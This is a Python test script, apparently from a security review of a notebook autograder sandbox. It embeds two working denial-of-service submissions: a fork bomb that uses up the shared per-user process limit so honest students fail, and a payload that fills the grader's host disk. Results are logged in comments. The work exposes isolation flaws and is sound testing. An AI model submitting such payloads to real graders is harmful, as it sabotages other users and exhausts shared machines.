"""a03 (ORDINARY USER, uid 65534): two attacks that only the ordinary-user grader allows, graded in one class
with honest students around them.

(1) a_nproc: as an ordinary user there is no pids cgroup; the sandbox sets RLIMIT_NPROC to "the user's
processes now + 256". But every sandbox of every submission, and the grader itself, is the SAME host uid
(65534), and the kernel counts tasks (threads too) per user. a_nproc forks sleepers until EAGAIN right
after its kernel starts (the next submission's kernel is already pre-started by then), then idles, so
that admission starts the next submission beside it: the honest students graded beside it find the
user's allowance used up (forks/threads/ranks fail).
(2) d_fill: as an ordinary user JUPYTER_RUNTIME_DIR is the grader's own folder on the host disk (the
4 MiB tmpfs exists only for root): only each file is capped (512 MiB RLIMIT_FSIZE), not their number.
d_fill writes 4 x 500 MB there (2 GB of the grader's disk; nothing stops 100 GB) and holds it while a
watcher measures the host disk.
Run as root: it makes the course dir owned by 65534 and runs the grader with setpriv.
"""
import sys, threading, subprocess; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.dirname(__import__("os").path.abspath(__file__))))
from attack_course import *

NPROC = r'''
import os, time, signal
_pids, _err = [], None
while len(_pids) < 5000:
    try:
        _pid = os.fork()
    except OSError as e:
        _err = e
        break
    if _pid == 0:
        while True:
            signal.pause()
    _pids.append(_pid)
print("forked", len(_pids), "sleepers, then", _err)
time.sleep(100)  # idle: admission starts the next submission beside this one
'''
IDLE = "import time\ntime.sleep(100)\n"

FILL = r'''
import os, time
_d = os.environ.get("JUPYTER_RUNTIME_DIR")
_st = os.statvfs(_d)
print("runtime dir", _d, "fs size MB", _st.f_blocks * _st.f_frsize // 2**20, "free MB", _st.f_bavail * _st.f_frsize // 2**20)
_written = 0
for _i in range(4):
    try:
        with open(os.path.join(_d, f"fill{_i}"), "wb") as _f:
            for _ in range(500):
                _f.write(b"\0" * 2**20)   # real blocks, not a sparse file
        _written += 500
    except OSError as e:
        print("stopped:", e)
        break
print("wrote MB", _written, "to the grader's runtime folder")
time.sleep(40)
'''

def watcher(stop, log):
    base = None
    while not stop.is_set():
        out = subprocess.run(["df", "-m", "--output=used", "/"], capture_output=True, text=True).stdout.split()[-1]
        used = int(out)
        base = used if base is None else base
        log.append(used - base)
        stop.wait(2)

if __name__ == "__main__":
    honest = honest_nb()
    students = {"a_nproc": notebook(overrides={"training_memory": NPROC, "per_device_memory": IDLE}),
                "b_honest": honest, "c_honest": honest,
                "d_fill": notebook(overrides={"training_memory": FILL})}
    os.makedirs("/tmp/attack-round3-home", exist_ok=True); os.chown("/tmp/attack-round3-home", 65534, 65534)
    dest = make_course("03user", students, owner=65534)
    stop, log = threading.Event(), []
    t = threading.Thread(target=watcher, args=(stop, log)); t.start()
    grade(dest, python="" + os.environ.get("ATTACK_USER_CLONE", "/srv/course-user") + "/.venv/bin/python", cwd="" + os.environ.get("ATTACK_USER_CLONE", "/srv/course-user") + "",
          prefix=["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "env", "HOME=/tmp/attack-round3-home"])
    stop.set(); t.join()
    print("host disk growth during grading (MB), max:", max(log or [0]), "end:", (log or [0])[-1])
    show(dest)
    for s in students:
        print("=====", s)
        try:
            outputs(dest, s)
        except Exception as e:
            print(e)

# RESULT (ORDINARY USER uid 65534, 02:44-02:49 UTC, 299 s; full output a03_user_nproc_and_runtime.out.txt):
#   a_nproc   0/30  "forked 212 sleepers, then [Errno 11] Resource temporarily unavailable"
#   b_honest 20/24  two_stage_step_matches_whole_model: 0/4, error "[Errno 11] Resource temporarily
#                   unavailable" (graded beside a_nproc: 9.8 s, while a_nproc idled 253 s)
#   c_honest 24/24  the SAME notebook as b_honest, graded after a_nproc ended: full marks
#   d_fill    0/30  "runtime dir /tmp/grade-kernel-xte6x08c/runtime fs size MB 258019" (the host disk),
#                   "wrote MB 2000 to the grader's runtime folder"; host `df` grew by 2000 MB during
#                   grading (back to +37 MB at the end: removed with the private folder). Only each file is
#                   capped (512 MiB); the number of files is not, so the whole free disk (75 GB here) could be
#                   filled while the submission runs. Not tried beyond 2 GB so as not to break this machine.
# => BROKEN promises (ordinary user): "no submission reaches another's grading" (an honest student lost 4
#    points) and "caps that cap" (grader's disk through JUPYTER_RUNTIME_DIR; the 4 MiB tmpfs is root-only).
